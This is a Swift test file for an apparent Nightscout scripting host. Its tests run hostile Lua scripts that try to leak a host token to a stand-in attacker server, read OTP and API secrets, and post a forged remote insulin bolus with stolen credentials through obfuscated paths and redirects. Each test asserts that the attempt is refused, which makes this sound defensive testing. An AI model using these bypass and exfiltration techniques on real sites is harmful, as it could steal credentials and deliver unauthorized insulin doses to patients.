import Foundation
import LookoutWire
import LookoutSim
import LookoutTestSupport
import Lua
import NightscoutKit
import XCTest

@testable import LookoutConfig
@testable import LookoutStore
@testable import LookoutModules

/// Issue 13 §1: credentials are host-side only. Each test runs an attack a hostile script could
/// try, end to end against the Nightscout simulator and the tests' own capture servers, and
/// asserts what reached each server.
final class CredentialAttackTests: XCTestCase {
    /// The site's API secret in the simulator (and the profile's `secret_env`).
    private let apiSecret = "this is my long pass phrase"
    /// A token the host holds in its environment, which no script may send anywhere.
    private let victimToken = "victim-0123456789abcdef"

    /// Runs `source` with `nightscout`, `signalk`, `http` and `config` over `config`, the
    /// environment holding the secrets; `ATTACKER`, `REDIRECTOR` and `SIM` are set.
    private func run(_ source: String, config configText: String, sim: URL?, store: StateStore,
                     file: StaticString = #filePath, line: UInt = #line) async throws -> [String] {
        let attacker = try await CaptureServer.attacker(), redirector = try await CaptureServer.redirector()
        let config = try HostConfig(text: configText)
        let environment = ["LOOKOUT_VICTIM_TOKEN": victimToken, "NS_SECRET": apiSecret,
                           "LOOP_OTP": NightscoutSimulator.Options.LoopSettings().otpURL]
        let home = FileManager.default.temporaryDirectory.appendingPathComponent("lookout-creds-\(UUID())")
        let paths = LookoutPaths(configFile: home.appendingPathComponent("config.toml").path, stateDirectory: home.path)
        let prelude = """
            local nightscout, signalk, http, config = require 'nightscout', require 'signalk', require 'http', require 'config'
            local ATTACKER, REDIRECTOR, SIM = "\(attacker.base)", "\(redirector.base)", "\(sim?.absoluteString ?? "")"

            """
        let (transcript, outcome) = try await runLua(prelude + source, modules: [
            NightscoutModule(config: config, store: store, environment: environment),
            SignalKModule(config: config, paths: paths, environment: environment),
            HTTPModule(), ConfigModule(config: config),
        ])
        XCTAssertEqual(transcript.errors.map(\.description), [], file: file, line: line)
        XCTAssertEqual(outcome.exitCode, 0, file: file, line: line)
        return transcript.lines
    }

    /// Whether `text` carries the token, in clear or as the `api-secret` hash.
    private func carriesVictimToken(_ text: String) -> Bool {
        text.contains(victimToken) || text.contains(NightscoutCredentials.sha1Hex(victimToken))
    }

    // MARK: (a) connect{} with the name of a variable

    /// `connect{url = <attacker>, token_env = "VAR"}` with VAR set: refused with `bad argument`,
    /// exactly as for a variable that does not exist, and nothing reaches the attacker's server.
    func testConnectRefusesNamesOfVariablesAndSendsNothing() async throws {
        let attacker = try await CaptureServer.attacker()
        let lines = try await run("""
            local target = ATTACKER .. "/attack-a"
            for _, key in ipairs { "token_env", "jwt_env", "secret_env", "token_file", "secret_file" } do
              for _, var in ipairs { "LOOKOUT_VICTIM_TOKEN", "LOOKOUT_NO_SUCH_VARIABLE" } do
                local ok, client = pcall(nightscout.connect, { url = target, [key] = var })
                if ok and client then client:entries { last = "1h" } end
                print("nightscout", key, var, ok, ok and "connected" or client)
              end
            end
            for _, var in ipairs { "LOOKOUT_VICTIM_TOKEN", "LOOKOUT_NO_SUCH_VARIABLE" } do
              local ok, boat = pcall(signalk.connect, { url = target, token_env = var, timeout = 5 })
              print("signalk", "token_env", var, ok, ok and "connected" or boat)
            end
            """, config: "", sim: nil, store: try StateStore())
        var expected: [String] = []
        for (key, literal) in [("token_env", "token"), ("jwt_env", "jwt"), ("secret_env", "secret"), ("token_file", "token"),
                               ("secret_file", "secret")] {
            for variable in ["LOOKOUT_VICTIM_TOKEN", "LOOKOUT_NO_SUCH_VARIABLE"] {
                // The same words whether the variable exists or not: no oracle.
                expected.append("nightscout\t\(key)\t\(variable)\tfalse\t"
                    + "bad argument #1 to 'nightscout.connect' (\(credentialReferenceRefusal(key, literal: literal)))")
            }
        }
        for variable in ["LOOKOUT_VICTIM_TOKEN", "LOOKOUT_NO_SUCH_VARIABLE"] {
            expected.append("signalk\ttoken_env\t\(variable)\tfalse\tbad argument #1 to 'signalk.connect' ("
                + credentialReferenceRefusal("token_env", literal: "token", profileCall: "signalk.connect") + ")")
        }
        XCTAssertEqual(lines, expected)
        XCTAssertEqual(attacker.requests("/attack-a").map(\.path), [], "nothing is sent to the script's address")
        XCTAssertFalse(attacker.requests().contains { carriesVictimToken($0.everything) })
    }

    // MARK: (b) read the OTP and token, post a bolus past the guard

    /// The whole attack of the issue: look for the OTP URL and the site secret everywhere a script
    /// can, then post a bolus with `http` straight to the remote-command endpoints (with the
    /// credentials as if stolen, and under every spelling of the path, and through a redirect).
    /// Nothing is found, every post is refused with an error that names `home:bolus` and the
    /// guard, and the simulator receives no command.
    func testAScriptCannotReadTheOTPOrPostABolusPastTheGuard() async throws {
        let (sim, url) = try await RemoteCommandSim.shared.start()
        let redirector = try await CaptureServer.redirector()
        redirector.redirect("/to-loop", to: url.absoluteString + "/api/v2/notifications/loop")
        redirector.redirect("/to-commands", to: url.absoluteString + "/api/v2/remotecommands")
        let loopBefore = await sim.receivedLoopNotifications().count
        let commandsBefore = await sim.storedRemoteCommands().count
        let otpURL = NightscoutSimulator.Options.LoopSettings().otpURL
        let otpSecret = NightscoutSimulator.Options.LoopSettings().otpSecret
        // What a script that had stolen them would send: the api-secret header and a valid code.
        let stolenHeader = NightscoutCredentials.sha1Hex(apiSecret)
        let stolenCode = try TOTP(url: otpURL).code(at: Date())
        let store = try StateStore()
        let lines = try await run("""
            local loop = assert(nightscout.client "loop")
            -- 1. look for the secrets
            local seen = { json.encode(config.get("")), tostring(config.get("nightscout.loop")), tostring(loop) }
            for _, key in ipairs { "secret", "otp_url", "otp", "token", "secret_env", "otp_url_env", "url" } do
              seen[#seen + 1] = tostring(config.get("nightscout.loop." .. key))
            end
            local _, err = loop:bolus(99)
            seen[#seen + 1] = json.encode(err)
            local ok, e = pcall(nightscout.connect, { url = ATTACKER .. "/attack-b", secret_env = "NS_SECRET" })
            seen[#seen + 1] = tostring(e)
            print("seen", table.concat(seen, "\\n"))
            -- 2. post a bolus straight to the endpoints
            local payload = { eventType = "Remote Bolus Entry", remoteBolus = "3.0", otp = "\(stolenCode)",
                              enteredBy = "attacker", notes = "past the guard" }
            local headers = { ["api-secret"] = "\(stolenHeader)" }
            for _, path in ipairs {
              "/api/v2/notifications/loop", "//api/v2/notifications/loop", "/API/V2/Notifications/Loop/",
              "/api/v2/notifications%2Floop", "/api/v2/notifications%252Floop", "/api/v1/../v2/notifications/loop",
              "/api/v2/./notifications//loop?x=1", "/api/v2/notifications/loop;v=1", "/api/v2/remotecommands",
              "/api/v2/RemoteCommands/", "\\\\api\\\\v2\\\\notifications\\\\loop",
            } do
              local r, err = http.post(SIM .. path, { json = payload, headers = headers })
              print(path, r and r.status, err and err.code, err and err.message:find("home:bolus", 1, true) ~= nil,
                    err and err.message:find("guard", 1, true) ~= nil)
            end
            for _, hop in ipairs { "/to-loop", "/to-commands" } do
              local r, err = http.request { method = "POST", url = REDIRECTOR .. hop, json = payload, headers = headers }
              print(hop, r and r.status, err and err.code, err and err.message:find("home:bolus", 1, true) ~= nil)
            end
            """, config: """
            [nightscout.loop]
            url = "\(url.absoluteString)"
            secret_env = "NS_SECRET"
            otp_url_env = "LOOP_OTP"
            remote = "live"
            max_bolus = 1
            max_bolus_per_hour = 1
            """, sim: url, store: store)
        let seen = lines.prefix { !$0.hasPrefix("/") }.joined(separator: "\n")
        XCTAssertTrue(seen.hasPrefix("seen"), seen)
        for secret in [apiSecret, stolenHeader, otpSecret, "otpauth", "NS_SECRET", "LOOP_OTP"] {
            XCTAssertFalse(seen.contains(secret), "a script could read \(secret)")
        }
        XCTAssertEqual(Array(lines.drop { !$0.hasPrefix("/") }), [
            "/api/v2/notifications/loop\tnil\trefused\ttrue\ttrue",
            "//api/v2/notifications/loop\tnil\trefused\ttrue\ttrue",
            "/API/V2/Notifications/Loop/\tnil\trefused\ttrue\ttrue",
            "/api/v2/notifications%2Floop\tnil\trefused\ttrue\ttrue",
            "/api/v2/notifications%252Floop\tnil\trefused\ttrue\ttrue",
            "/api/v1/../v2/notifications/loop\tnil\trefused\ttrue\ttrue",
            "/api/v2/./notifications//loop?x=1\tnil\trefused\ttrue\ttrue",
            "/api/v2/notifications/loop;v=1\tnil\trefused\ttrue\ttrue",
            "/api/v2/remotecommands\tnil\trefused\ttrue\ttrue",
            "/api/v2/RemoteCommands/\tnil\trefused\ttrue\ttrue",
            "\\api\\v2\\notifications\\loop\tnil\trefused\ttrue\ttrue",
            "/to-loop\tnil\trefused\ttrue",
            "/to-commands\tnil\trefused\ttrue",
        ])
        let loopAfter = await sim.receivedLoopNotifications().count
        let commandsAfter = await sim.storedRemoteCommands().count
        XCTAssertEqual(loopAfter, loopBefore, "no Loop notification reached the simulator")
        XCTAssertEqual(commandsAfter, commandsBefore, "no remote command was stored")
        XCTAssertEqual(redirector.requests("/to-loop").count, 1, "the redirect was asked for, and not followed")
    }

    // MARK: (c) a profile's site redirects to another origin

    /// A profile whose site answers every request with a redirect to another origin (the
    /// attacker's server, same path): the client refuses it, so neither the token (in the JWT
    /// exchange's path) nor the `api-secret` hash reaches the other origin.
    func testAProfilesCredentialsDoNotFollowARedirectToAnotherOrigin() async throws {
        let attacker = try await CaptureServer.attacker(), redirector = try await CaptureServer.redirector()
        redirector.redirect("/site-c", to: attacker.base + "/from-c")
        let lines = try await run("""
            for _, name in ipairs { "token", "secret" } do
              local site = assert(nightscout.client(name))
              local docs, err = site:entries { last = "1h" }
              print(name, docs, err and err.code, err and err.message:find("another origin", 1, true) ~= nil)
            end
            """, config: """
            [nightscout.token]
            url = "\(redirector.base)/site-c/token"
            token_env = "LOOKOUT_VICTIM_TOKEN"
            [nightscout.secret]
            url = "\(redirector.base)/site-c/secret"
            secret_env = "LOOKOUT_VICTIM_TOKEN"
            api = "v1"
            """, sim: nil, store: try StateStore())
        XCTAssertEqual(lines.count, 2, "\(lines)")
        for line in lines { XCTAssertTrue(line.hasSuffix("\tnil\tnetwork\ttrue") || line.hasSuffix("\ttrue"), line) }
        XCTAssertFalse(redirector.requests("/site-c").isEmpty, "the profile's own origin was asked")
        XCTAssertEqual(attacker.requests("/from-c").map(\.path), [], "nothing followed the redirect to the other origin")
        XCTAssertFalse(attacker.requests().contains { carriesVictimToken($0.everything) })
    }

    // MARK: (d) config.get redacts credentials in URLs

    /// `config.get` of a URL with user info and a token in the query returns it redacted, as
    /// doctor shows it; a URL without credentials comes back unchanged.
    func testConfigGetRedactsCredentialsInURLs() async throws {
        let lines = try await run("""
            print(config.get("nightscout.leaky.url"))
            print(config.get("nightscout.plain.url"))
            print(config.get("signalk.boat.url"))
            print(json.encode(config.get("")))
            """, config: """
            [nightscout.leaky]
            url = "https://carer:hunter2-pass@ns.example.org/?token=reader-abcdef1234567890&units=mmol"
            [nightscout.plain]
            url = "https://ns.example.org/sub"
            [signalk.boat]
            url = "http://boat.local:3000/signalk/v1/stream?token=eyJhbGciOiJIUzI1NiJ9.e30.c2lnbmF0dXJl"
            """, sim: nil, store: try StateStore())
        XCTAssertEqual(lines.count, 4, "\(lines)")
        XCTAssertEqual(lines[0], Redaction.display(URL(string: "https://carer:hunter2-pass@ns.example.org/?token=reader-abcdef1234567890&units=mmol")!))
        XCTAssertEqual(lines[1], "https://ns.example.org/sub")
        XCTAssertTrue(lines[2].hasPrefix("http://boat.local:3000/signalk/v1/stream?token="), lines[2])
        for secret in ["carer", "hunter2-pass", "reader-abcdef1234567890", "mmol", "eyJhbGciOiJIUzI1NiJ9"] {
            for line in lines { XCTAssertFalse(line.contains(secret), "\(secret) in \(line)") }
        }
        XCTAssertTrue(lines[0].hasPrefix("https://") && lines[0].contains("@ns.example.org/?token="), lines[0])
    }
}
